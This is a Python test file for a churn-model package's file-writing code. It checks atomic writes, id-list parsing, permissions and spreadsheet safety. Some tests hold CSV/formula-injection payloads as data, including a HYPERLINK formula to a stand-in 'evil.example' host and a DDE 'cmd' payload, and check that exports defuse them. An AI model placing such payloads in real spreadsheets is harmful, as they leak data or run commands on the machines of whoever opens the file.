"""Atomic writers: an output appears whole or not at all."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest

from churnml import io
from churnml.errors import ConfigError, DataError

FRAME = pd.DataFrame({"customer_id": ["a", "b"], "churn_probability": [0.1, 0.7]})


@pytest.mark.parametrize("name", ["out.parquet", "out.csv"])
def test_write_table_round_trips_and_leaves_no_temp_file(tmp_path: Path, name: str) -> None:
    path = io.write_table(FRAME, tmp_path / name)
    pd.testing.assert_frame_equal(io.read_table(path), FRAME)
    assert [p.name for p in tmp_path.iterdir()] == [name]


def test_failed_write_leaves_neither_output_nor_temp(tmp_path: Path) -> None:
    target = tmp_path / "scores.parquet"
    with pytest.raises(RuntimeError):
        with io.TableWriter(target) as writer:
            writer.write(FRAME)
            raise RuntimeError("killed midway")
    assert list(tmp_path.iterdir()) == []


def test_failed_write_keeps_the_previous_file(tmp_path: Path) -> None:
    target = io.write_table(FRAME, tmp_path / "scores.csv")
    with pytest.raises(RuntimeError):
        with io.TableWriter(target) as writer:
            writer.write(FRAME.assign(churn_probability=0.0))
            raise RuntimeError("killed midway")
    pd.testing.assert_frame_equal(io.read_table(target), FRAME)


@pytest.mark.parametrize("fmt", ["parquet", "csv"])
def test_chunked_writer_appends_chunks(tmp_path: Path, fmt: str) -> None:
    target = tmp_path / f"big.{fmt}"
    with io.TableWriter(target, fmt) as writer:
        writer.write(FRAME)
        writer.write(FRAME)
    assert writer.rows == 4
    assert io.read_table(target)["customer_id"].tolist() == ["a", "b", "a", "b"]


def test_unknown_format_and_missing_file_are_clear(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match=r"Unknown format 'ods'. Use one of: parquet, csv, xlsx."):
        io.write_table(FRAME, tmp_path / "x", "ods")
    with pytest.raises(ConfigError, match=r"Unknown format 'xlsx'. Use one of: parquet, csv."):
        io.format_for(tmp_path / "scores", "xlsx")  # scores and features: Parquet or CSV only
    with pytest.raises(DataError, match="does not exist"):
        io.read_table(tmp_path / "missing.parquet")


@pytest.mark.parametrize("name", ["scores.csv", "scores.parquet"])
def test_customer_ids_read_back_as_written(tmp_path: Path, name: str) -> None:
    # A CSV read without care turns "0002014" into 2014 and "NA" into a missing id: a retention
    # list would then name customers that do not exist.
    frame = pd.DataFrame({"customer_id": ["0002014", "NA", "null", "C7"], "churn_probability": [0.1, None, 0.3, 0.4],
                          "reasons": ["2 unresolved complaints", "", "x", None]})
    back = io.read_table(io.write_table(frame, tmp_path / name))
    assert back["customer_id"].tolist() == ["0002014", "NA", "null", "C7"]
    assert back["churn_probability"].isna().tolist() == [False, True, False, False]
    assert back["reasons"].iloc[0] == "2 unresolved complaints" and back["reasons"].iloc[3:].isna().all()


def test_format_follows_the_suffix_and_refuses_a_mismatch() -> None:
    assert io.format_for(Path("s.csv"), None) == "csv" and io.format_for(Path("s.PARQUET"), None) == "parquet"
    assert io.format_for(Path("scores"), None) == "parquet" and io.format_for(Path("list"), None, default="csv") == "csv"
    assert io.format_for(Path("s.csv"), "csv") == "csv" and io.format_for(Path("scores"), "csv") == "csv"
    # Parquet bytes in a .csv file, or CSV in a spreadsheet's name, open as garbage elsewhere.
    with pytest.raises(ConfigError, match=r"^f.csv ends in .csv but the format is parquet. Name the file .parquet, or drop --format."):
        io.format_for(Path("f.csv"), "parquet")
    with pytest.raises(ConfigError, match=r"^scores.xlsx: churnml writes Parquet or CSV here, not .xlsx. Name the file .parquet or .csv."):
        io.format_for(Path("scores.xlsx"), None)
    # A retention list may be an Excel workbook; an .ods may not.
    assert io.format_for(Path("list.xlsx"), None, default="csv", formats=io.LIST_FORMATS) == "xlsx"
    with pytest.raises(ConfigError, match=r"^list.ods: churnml writes Parquet, CSV or Excel \(.xlsx\) here, not .ods. Name the file .parquet, .csv or .xlsx."):
        io.format_for(Path("list.ods"), None, default="csv", formats=io.LIST_FORMATS)


def test_id_lists_read_from_spreadsheet_exports(tmp_path: Path) -> None:
    """Do-not-contact lists as CRMs export them: any usual separator, a byte-order mark, the
    company's own name for the id column; ids stay text ("007", "NA")."""
    (tmp_path / "semi.csv").write_text("\ufeffcustomer_id;opted_out;note\n007;2025-01-03;a, b\nNA;2025-02-01;\n",
                                       encoding="utf-8")
    assert io.read_ids(tmp_path / "semi.csv") == {"007", "NA"}
    (tmp_path / "tabs.csv").write_text("member_no\tchannel\nM-1\tmail\nM-2\tphone\n")
    assert io.read_ids(tmp_path / "tabs.csv", ("customer_id", "member_no")) == {"M-1", "M-2"}
    (tmp_path / "one.csv").write_text("customer_id\nx1\n x2 \n")
    assert io.read_ids(tmp_path / "one.csv") == {"x1", "x2"}
    # A CRM's header: "Customer ID" for customer_id (the list was refused: "has no customer_id column").
    (tmp_path / "crm.csv").write_text("Customer ID,E-mail\nC0000688,a@b.c\nC0003548,d@e.f\n")
    assert io.read_ids(tmp_path / "crm.csv") == {"C0000688", "C0003548"}
    pd.DataFrame({"CustomerId": ["C1"], "Customer": ["Ann"]}).to_excel(tmp_path / "crm.xlsx", index=False)
    assert io.read_ids(tmp_path / "crm.xlsx") == {"C1"}
    with pytest.raises(DataError, match=r"tabs.csv has no customer_id column \(columns: member_no, channel\)"):
        io.read_ids(tmp_path / "tabs.csv")
    with pytest.raises(DataError, match="one.csv has neither member_no nor client column"):
        io.read_ids(tmp_path / "one.csv", ("member_no", "client"))
    # A warehouse's Parquet: the name in capitals, ids as integers or as floats with a gap (pandas).
    pd.DataFrame({"CUSTOMER_ID": [7, 12]}).to_parquet(tmp_path / "upper.parquet")
    assert io.read_ids(tmp_path / "upper.parquet") == {"7", "12"}
    pd.DataFrame({"customer_id": [7.0, None, 12.0]}).to_parquet(tmp_path / "floats.parquet")
    assert io.read_ids(tmp_path / "floats.parquet") == {"7", "12"}
    pd.DataFrame({"customer_id": [7.5, 12.0]}).to_parquet(tmp_path / "halves.parquet")
    assert io.read_ids(tmp_path / "halves.parquet") == {"7.5", "12.0"}


def test_a_write_removes_what_killed_writers_of_this_host_left(tmp_path: Path) -> None:
    """Temporary files of processes that are gone (kill -9) go at the next write of the same
    output; a running writer's file and another host's stay."""
    import subprocess
    import sys

    finished = subprocess.Popen([sys.executable, "-c", "pass"])
    finished.wait()
    running = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        out = tmp_path / "scores.csv"
        stale = tmp_path / f".scores.csv.{io.HOST}-{finished.pid}.abc123.tmp"
        live = tmp_path / f".scores.csv.{io.HOST}-{running.pid}.def456.tmp"
        remote = tmp_path / f".scores.csv.otherhost-{finished.pid}.ghi789.tmp"
        unrelated = tmp_path / f".other.csv.{io.HOST}-{finished.pid}.jkl012.tmp"
        for leftover in (stale, live, remote, unrelated):
            leftover.write_text("half a file")
        io.write_table(FRAME, out)
        assert not stale.exists()
        assert live.exists() and remote.exists() and unrelated.exists()
        assert sorted(p.name for p in tmp_path.iterdir()) == sorted([out.name, live.name, remote.name, unrelated.name])
    finally:
        running.kill()
        running.wait()


def test_xlsx_text_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
    # openpyxl wrote a customer id or reason starting with "=" as a formula: the retention list
    # ran =HYPERLINK("http://...?"&A3, ...) in the marketer's Excel and showed "=1+1" as 2.
    import openpyxl

    frame = pd.DataFrame({"customer_id": ['=HYPERLINK("http://evil.example/?"&A3,"Click")', "=1+1", "C1"],
                          "reasons": ["a", "=2*3", "x"], "churn_probability": [0.5, 0.25, 0.125]})
    io.write_table(frame, tmp_path / "list.xlsx")
    rows = list(openpyxl.load_workbook(tmp_path / "list.xlsx").active.iter_rows(min_row=2))
    assert [[cell.data_type for cell in row] for row in rows] == [["s", "s", "n"]] * 3
    assert io.read_table(tmp_path / "list.xlsx")["customer_id"].tolist() == frame["customer_id"].tolist()


def test_spreadsheet_csv_text_cannot_become_a_formula(tmp_path: Path) -> None:
    # A retention list CSV wrote an id "=HYPERLINK(...)" or "@SUM(...)" as it was: Excel opening the
    # file ran it as a formula (OWASP "CSV injection"). Text starting with = + - @ tab or CR now gets a
    # leading apostrophe; negative numbers, as numbers or as text ("-42", "-1.234,50"), and a lone "-"
    # stay as they are; churnml reads its own lists back (evaluate, report --list, --exclude) unchanged.
    import csv

    dangerous = ['=HYPERLINK("http://evil.example/?"&A3,"Click")', "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3",
                 "@SUM(1,1)", "\t=1+1", "'=1+1"]
    harmless = ["-42", "-1.234,50", "-", "C1", "Zoë 002475"]
    frame = pd.DataFrame({"customer_id": dangerous + harmless,
                          "reasons": ["=2*3; region: x"] + [""] * (len(dangerous) + len(harmless) - 1),
                          "expected_benefit": [-3.5] + [1.0] * (len(dangerous) + len(harmless) - 1)})
    path = io.write_table(frame, tmp_path / "list.csv", spreadsheet=True)
    with open(path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))[1:]
    assert [row[0] for row in rows] == ["'" + text for text in dangerous] + harmless
    assert rows[0][1:] == ["'=2*3; region: x", "-3.5"]
    assert io.read_table(path)["customer_id"].tolist() == frame["customer_id"].tolist()
    assert io.read_table(path)["reasons"].iloc[0] == "=2*3; region: x"
    assert io.read_ids(path) == {text.strip() for text in frame["customer_id"]}


IDS_LIKE_FORMULAS = ['=HYPERLINK("http://x","y")', "@SUM(1)", "+49 30 1234", "\t=1+1", "'=1+1", "''@x"]
"""Customer ids a spreadsheet would run as formulas (an apostrophe before one is still one)."""
IDS_NOT_FORMULAS = ["-5", "-1.234,50", "-", "'quoted", "'", "C1", "Zoë"]
"""Customer ids a spreadsheet shows as they are: numbers, a placeholder, an apostrophe before text."""


@pytest.mark.parametrize("writer", ["scores", "features", "list"])
def test_every_csv_churnml_writes_is_defused_and_reads_back_as_it_was(tmp_path: Path, writer: str) -> None:
    # The scores CSV (`churnml score --out scores.csv`) and the features CSV wrote an id or attribute
    # "=HYPERLINK(...)" as it was, which Excel ran when a marketer opened the file; only the
    # retention list and quarantine files were defused. And since churnml's CSV reader takes the
    # defusing apostrophe off every CSV, a scores file with the genuine id "'=1+1" read back as
    # "=1+1" in `retention-list` and `evaluate`: an id that matched nobody.
    import csv

    ids = IDS_LIKE_FORMULAS + IDS_NOT_FORMULAS
    frame = pd.DataFrame({"customer_id": ids, "segment": pd.Categorical(["=cat"] + ["a"] * (len(ids) - 1)),
                          "reasons": ["plan: =x"] * len(ids), "value": [-3.5] + [1.0] * (len(ids) - 1),
                          "@note": "x"})  # a column of the data's own (a quarantine file's header)
    path = tmp_path / f"{writer}.csv"
    if writer == "scores":  # as `churnml score` writes it, in chunks
        with io.TableWriter(path) as table:
            table.write(frame.iloc[:4])
            table.write(frame.iloc[4:])
    else:
        io.write_table(frame, path, spreadsheet=writer == "list")
    with open(path, encoding="utf-8-sig", newline="") as handle:
        header, *rows = list(csv.reader(handle))
    assert header == ["customer_id", "segment", "reasons", "value", "'@note"]
    assert [row[0] for row in rows] == ["'" + text for text in IDS_LIKE_FORMULAS] + IDS_NOT_FORMULAS
    assert rows[0][1:] == ["'=cat", "plan: =x", "-3.5", "x"]
    back = io.read_table(path)
    assert list(back.columns) == list(frame.columns)
    assert back["customer_id"].tolist() == ids
    assert back["segment"].tolist() == frame["segment"].astype(str).tolist()
    assert back["value"].tolist() == frame["value"].tolist()  # numbers, negative ones too, stay numbers
    assert io.read_ids(path) == {text.strip() for text in ids if text.strip()}


def test_a_formula_after_a_semicolon_is_defused_too(tmp_path: Path) -> None:
    # Excel or LibreOffice whose list separator is ";" (Germany, France) splits a comma CSV at
    # every ";", quoted or not: a cell "a;=1+1" became "a" and a formula =1+1 beside it
    # (LibreOffice 7.4 opening the list with ";" as separator). Each part after a ";" is defused.
    import csv

    values = ["a;=1+1", "a;'=1", "plan: x;@SUM(1); 2 complaints", "1;-5", "a; =1", "a;;+", "=1;=2"]
    frame = pd.DataFrame({"customer_id": [f"C{i}" for i in range(len(values))], "reasons": values})
    path = io.write_table(frame, tmp_path / "list.csv", spreadsheet=True)
    with open(path, encoding="utf-8-sig", newline="") as handle:
        cells = [row[1] for row in list(csv.reader(handle))[1:]]
    assert cells == ["a;'=1+1", "a;''=1", "plan: x;'@SUM(1); 2 complaints", "1;-5", "a; =1", "a;;+", "'=1;'=2"]
    assert io.read_table(path)["reasons"].tolist() == values


def test_generated_input_tables_are_written_as_they_are(tmp_path: Path) -> None:
    # `churnml generate --format csv` writes input data, which validation reads as it is (no
    # apostrophe taken off): it must not be defused.
    with io.TableWriter(tmp_path / "customers.csv", defuse=False) as table:
        table.write(pd.DataFrame({"customer_id": ["=1+1", "C1"]}))
    assert (tmp_path / "customers.csv").read_text().splitlines() == ["customer_id", "=1+1", "C1"]


def test_spreadsheet_csv_quotes_a_carriage_return_inside_a_value(tmp_path: Path) -> None:
    # A raw value holding a lone carriage return (a quarantined row from a Windows export) was written
    # unquoted: spreadsheets and CSV readers broke the row in two there, shifting every column after it.
    import csv

    frame = pd.DataFrame({"customer_id": ["a", "b"], "note": ["first\rsecond", "x"], "amount": [1.5, 2.0]})
    path = io.write_table(frame, tmp_path / "quarantine.csv", spreadsheet=True)
    with open(path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows == [["customer_id", "note", "amount"], ["a", "first\rsecond", "1.5"], ["b", "x", "2.0"]]
    pd.testing.assert_frame_equal(io.read_table(path), frame)


def test_an_id_list_that_is_a_folder_says_so(tmp_path: Path) -> None:
    # "File optout does not exist" for a folder that exists sent the user looking for a typo.
    (tmp_path / "optout").mkdir()
    with pytest.raises(DataError, match=r"optout is a folder, not a file of ids"):
        io.read_ids(tmp_path / "optout")


def test_rewriting_an_output_keeps_its_permissions(tmp_path: Path) -> None:
    # A retention list made readable to its owner only (chmod 600: names and values of customers)
    # became 644, readable by every account of the machine, when the next run replaced it.
    import os
    import stat

    target = io.write_table(FRAME, tmp_path / "list.csv")
    os.chmod(target, 0o600)
    io.write_table(FRAME, target)
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    with io.TableWriter(tmp_path / "list.csv") as writer:
        writer.write(FRAME)
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    fresh = io.write_table(FRAME, tmp_path / "new.csv")  # a new file follows the umask, as open() does
    umask = os.umask(0)
    os.umask(umask)
    assert stat.S_IMODE(fresh.stat().st_mode) == 0o666 & ~umask


def test_the_code_version_names_the_commit_only_of_a_checkout_of_the_package(tmp_path: Path) -> None:
    # A run recorded its data and seed but not its code; and a package installed in a .venv inside
    # some other repository must not report that repository's commit.
    import subprocess

    import churnml

    def git(*args: str) -> str:
        return subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@t", *args], cwd=tmp_path,
                              check=True, capture_output=True, text=True).stdout.strip()

    package = tmp_path / "pkg"
    package.mkdir()
    (package / "__init__.py").write_text("x = 1\n")
    git("init", "-q")
    (tmp_path / ".gitignore").write_text("venv/\n")
    venv_copy = tmp_path / "venv" / "pkg"
    venv_copy.mkdir(parents=True)
    (venv_copy / "__init__.py").write_text("x = 1\n")
    assert io.git_state(package) == {}  # nothing committed yet
    git("add", ".")
    git("commit", "-q", "-m", "first")
    commit = git("rev-parse", "HEAD")
    assert io.git_state(package) == {"git_commit": commit, "git_dirty": False}
    assert io.git_state(venv_copy) == {}  # ignored, untracked: not this repository's code
    (tmp_path / "README").write_text("outside the package\n")
    (package / "new.py").write_text("untracked\n")
    assert io.git_state(package)["git_dirty"] is False
    (package / "__init__.py").write_text("x = 2\n")
    assert io.git_state(package) == {"git_commit": commit, "git_dirty": True}
    assert io.code_version()["churnml"] == churnml.__version__


@pytest.mark.parametrize("name", ["scores.parquet", "scores.csv", "summary.json"])
def test_a_failed_write_names_the_output(tmp_path: Path, name: str) -> None:
    # A full disk failed `churnml score` with "Error writing bytes to file. Detail: [errno 28] No
    # space left on device" and no path: the job's log did not say which output was not written.
    # The file-size limit (RLIMIT_FSIZE) fails a real write the same way.
    import errno
    import subprocess
    import sys
    import textwrap

    out = tmp_path / name
    write = ("io.write_json({'x': 'y' * 300_000}, out)" if name.endswith(".json")
             else "io.write_table(pd.DataFrame({'x': [str(i) * 20 for i in range(20_000)]}), out)")
    script = textwrap.dedent(f"""
        import resource, signal, sys, pandas as pd
        from churnml import io
        out = {str(out)!r}
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # the write fails with EFBIG instead
        resource.setrlimit(resource.RLIMIT_FSIZE, (100_000, 100_000))
        try:
            {write}
        except OSError as exc:
            print(exc.errno, exc.filename)
            sys.exit(1)
    """)
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=120)
    assert done.returncode == 1, done.stderr
    assert done.stdout.split() == [str(errno.EFBIG), str(out)]
    assert list(tmp_path.iterdir()) == []


def test_a_write_that_fails_or_is_stopped_leaves_no_folder_it_made(tmp_path: Path) -> None:
    # `churnml score` stopped by SIGTERM between its predictions and the snapshot's rename removed
    # its temporary files but left the snapshots folder it had made, empty. Folders there before
    # stay; a write that succeeds keeps its folder.
    with pytest.raises(KeyboardInterrupt):
        with io.atomic_path(tmp_path / "nightly" / "2026-01-01" / "scores.parquet") as tmp:
            tmp.write_bytes(b"half")
            raise KeyboardInterrupt
    assert list(tmp_path.iterdir()) == []
    features = pd.DataFrame({"customer_id": ["a"], "recency_days": [3.0]})
    outside = pd.DataFrame({"customer_id": ["b"], "reason": ["inactive"]})
    with pytest.raises(RuntimeError, match="the scores failed"):
        with io.staged_snapshot(features, pd.Timestamp("2026-01-01"), tmp_path / "snapshots", outside):
            raise RuntimeError("the scores failed")
    assert list(tmp_path.iterdir()) == []
    (tmp_path / "kept").mkdir()
    with pytest.raises(RuntimeError):
        with io.atomic_path(tmp_path / "kept" / "scores.parquet"):
            raise RuntimeError
    assert [p.name for p in tmp_path.iterdir()] == ["kept"] and list((tmp_path / "kept").iterdir()) == []
    with io.staged_snapshot(features, pd.Timestamp("2026-01-01"), tmp_path / "snapshots", outside):
        pass
    assert sorted(p.name for p in (tmp_path / "snapshots").iterdir()) == ["features_2026-01-01.parquet",
                                                                         "outside_2026-01-01.parquet"]


def test_spark_refuses_a_folder_of_csv_tables_with_a_command_that_writes_them_as_parquet(tmp_path: Path) -> None:
    # `--engine spark` on a folder of CSV tables started Spark (20-45 s) before it said the customers
    # table was "not found" and that Spark reads Parquet only. The check before Spark names the CSV
    # files and gives a command writing them as Parquet beside them, which the test runs.
    import shlex
    import subprocess
    import sys

    folder = tmp_path / "exp ort"  # a space: the command quotes the folder for the shell
    folder.mkdir()
    pd.DataFrame({"customer_id": ["007", "8"], "signup_date": ["2021-01-01", "2021-02-01"]}).to_csv(
        folder / "customers.csv", index=False)
    pd.DataFrame({"customer_id": ["007"], "timestamp": ["2021-03-01 10:00:00"], "amount": ["1.50"]}).to_csv(
        folder / "transactions.csv.gz", index=False)
    (folder / "notes.csv").write_text("not,a,table\n")  # no table of the contract: not Spark's business
    with pytest.raises(DataError) as refused:
        io.check_spark_source(str(folder))
    message = str(refused.value)
    assert message.startswith(f"Data source {folder} holds customers.csv, transactions.csv.gz: --engine spark reads "
                              "Parquet only, not CSV. Write them as Parquet beside them")
    assert "notes.csv" not in message and message.endswith("Or use --engine duckdb, which reads CSV.")
    command = message.split("(installed with churnml): ")[1].split("; then move")[0]
    assert command.startswith(f"cd {shlex.quote(str(folder))} && python -c ")
    done = subprocess.run(command.replace(" python -c ", f" {shlex.quote(sys.executable)} -c ", 1), shell=True,
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    # Every column as text, as churnml reads a CSV: the id 007 keeps its zeros.
    assert pd.read_parquet(folder / "customers.parquet")["customer_id"].tolist() == ["007", "8"]
    assert pd.read_parquet(folder / "transactions.parquet")["amount"].tolist() == ["1.50"]
    io.check_spark_source(str(folder))  # each table now has its Parquet form: Spark reads that one


def test_spark_refuses_one_table_left_as_csv_but_not_an_empty_folder_or_another_file_system(tmp_path: Path) -> None:
    # An optional table as CSV beside Parquet ones: Spark ran without it (no churn_events: churn by
    # inactivity, another problem), where --engine duckdb reads it. Names are the config's [tables] names.
    from churnml.config import config_from_dict

    io.check_spark_source(str(tmp_path))  # empty: left to Spark's read, which says what it expected
    io.check_spark_source(f"s3a://bucket/{tmp_path.name}")  # not listed here
    for table in ("customers", "transactions"):
        pd.DataFrame({"customer_id": ["a"]}).to_parquet(tmp_path / f"{table}.parquet")
    (tmp_path / "closures").mkdir()  # a folder of parts, under the name the config maps
    (tmp_path / "churn_events.csv").write_text("customer_id,churned_at\na,2021-01-01\n")
    with pytest.raises(DataError, match=r"holds churn_events\.csv: --engine spark reads Parquet only, not CSV\. Write it "
                                        r"as Parquet beside it, .*; then move the CSV file out of the folder"):
        io.check_spark_source(str(tmp_path))
    io.check_spark_source(str(tmp_path), config_from_dict({"tables": {"churn_events": "closures"}}))
    (tmp_path / "tickets.csv").write_text("customer_id\na\n")
    with pytest.raises(DataError, match=r"holds tickets\.csv: "):
        io.check_spark_source(f"file://{tmp_path}", config_from_dict({"tables": {"churn_events": "closures",
                                                                                 "service_events": "tickets"}}))


def test_staged_json_refuses_a_folder_in_its_place_before_the_block_runs(tmp_path: Path) -> None:
    # A folder where the JSON goes failed its rename only after the block had published the file it describes
    # (a feature table, a retention list): that file new, its description missing. The block never runs now.
    (tmp_path / "list.csv.json").mkdir()
    ran = []
    with pytest.raises(IsADirectoryError) as refused:
        with io.staged_json({"selected": 3}, tmp_path / "list.csv.json"):
            ran.append(io.write_table(pd.DataFrame({"customer_id": ["a"]}), tmp_path / "list.csv"))
    assert refused.value.filename == str(tmp_path / "list.csv.json") and ran == []
    assert sorted(p.name for p in tmp_path.iterdir()) == ["list.csv.json"]  # no list, no temporary file
